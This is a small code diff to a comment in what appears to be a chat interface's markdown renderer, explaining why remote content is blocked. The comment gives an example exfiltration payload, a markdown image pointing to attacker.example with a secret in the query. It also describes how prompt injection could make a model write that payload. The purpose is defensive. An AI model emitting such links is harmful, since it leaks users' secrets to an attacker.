@@ -1,6 +1,7 @@
 /**
- * The model's markdown, rendered without loading anything from another
- * site. A prompt injection could make the model write
+ * The model's markdown, and the outputs of its cells in the chat's step
+ * cards, rendered without loading anything from another site. A prompt
+ * injection could make the model write
  * `![x](https://attacker.example/?q=<secret>)`, and the browser would send
  * the secret the moment the image is in the page; so images from elsewhere
  * wait for a click, other embedded media are dropped, CSS that fetches is
